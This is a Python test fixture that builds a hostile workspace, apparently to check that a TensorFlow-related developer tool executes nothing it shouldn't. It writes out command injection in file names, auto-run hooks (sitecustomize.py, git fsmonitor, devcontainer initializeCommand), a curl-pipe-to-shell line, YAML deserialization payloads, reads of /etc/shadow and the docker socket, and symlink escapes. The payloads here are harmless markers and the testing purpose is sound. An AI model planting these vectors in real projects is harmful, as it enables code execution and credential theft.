"""A workspace that somebody else wrote, with everything in it that programs have been tricked with."""

from __future__ import annotations

import os
from pathlib import Path

# Outside of the workspace, and nobody's business in it.
SECRET = "outside-" + "the-workspace"


def hostile(parent: Path, name: str = "workspace $(touch came-in) `id` ;'") -> Path:
    """Make one in a folder. Whatever of it runs leaves `came-in` beside it."""
    mark = parent / "came-in"
    (parent / "secret.toml").write_text(f'language = "{SECRET}"\n')
    (parent / "secret.md").write_text(
        f"# {SECRET}\n\n```bash\ndocker run --privilege tensorflow/tensorflow:latest\n```\n"
    )
    folder = parent / name
    folder.mkdir()
    (folder / ".git").mkdir()
    python = f"import os\nos.system({f'touch {mark}'!r})\n"
    for name in ("sitecustomize.py", "conftest.py", "tflsp.py", "click.py", "json.py", "setup.py", "__init__.py"):
        (folder / name).write_text(python)
    (folder / "tflsp").mkdir()
    (folder / "tflsp/__init__.py").write_text(python)
    (folder / ".pythonrc").write_text(python)
    (folder / ".git/config").write_text(f"[core]\n\tfsmonitor = touch '{mark}'\n\tpager = touch '{mark}'\n")
    (folder / ".env").write_text(f"PYTHONSTARTUP=.pythonrc\nLD_PRELOAD=./x.so\nPASSWORD={SECRET}2\n")
    (folder / "tflsp.toml").write_text(
        'extend = "../secret.toml"\n[container]\nenv-file = "/etc/shadow"\nname = "$(touch came-in)"\n'
        '[container.mounts]\nhost = "/"\nsocket = "/var/run/docker.sock"\n'
    )
    (folder / "pyproject.toml").write_text('[tool.tflsp]\nextend = "/etc/passwd"\n')
    (folder / "journal.md").write_text(
        f"```bash\ntouch {mark}\ndocker run -v /:/host tensorflow/tensorflow:latest\n```\n"
        "![x](http://127.0.0.1:9/x.png) [y](file:///etc/passwd)\n"
        f"```python\n{python}```\n<script>alert(1)</script>\n" + "[" * 5000 + "\n"
    )
    (folder / "run.sh").write_text(f"touch {mark}\n$(touch {mark})\ncurl http://127.0.0.1:9 | sh\n" + "$(" * 3000)
    (folder / "Dockerfile").write_text(f"# syntax=127.0.0.1:9/evil\nFROM tensorflow/tensorflow\nRUN touch {mark}\n")
    (folder / "compose.yaml").write_text(
        "x: &a [" + "*a," * 50 + "]\nservices:\n  a:\n    image: !!python/object/apply:os.system ['id']\n"
        "    env_file: /etc/shadow\n    extends: {file: ../secret.toml, service: a}\n"
    )
    (folder / "evil.ipynb").write_text('{"cells": [{"cell_type": "code", "source": ["!touch ' + str(mark) + '"]}]}')
    (folder / "deep.json").write_text("[" * 100_000)
    (folder / ".devcontainer").mkdir()
    (folder / ".devcontainer/devcontainer.json").write_text(f'{{"initializeCommand": "touch {mark}"}}')
    (parent / "secret.env").write_text("export A=1\n")
    (folder / ".env.example").symlink_to(parent / "secret.env")
    (folder / ".gitignore").symlink_to(parent / "secret.env")
    (folder / "login.py").write_text('password = "' + "k3J9x" + 'Lq8Zt5Rw2Bv"\n')
    (folder / "outside.md").symlink_to(parent / "secret.md")
    (folder / "loop").symlink_to(folder)
    (folder / "device.md").symlink_to("/dev/zero")
    os.mkfifo(folder / "pipe.md")
    os.mkfifo(folder / "Dockerfile.pipe")
    (folder / "$(touch came-in).md").write_text("docker run tensorflow/tensorflow:latest\n")
    (folder / "\x1b[31m\n.md").write_text("docker run tensorflow/tensorflow:latest\n")
    return folder
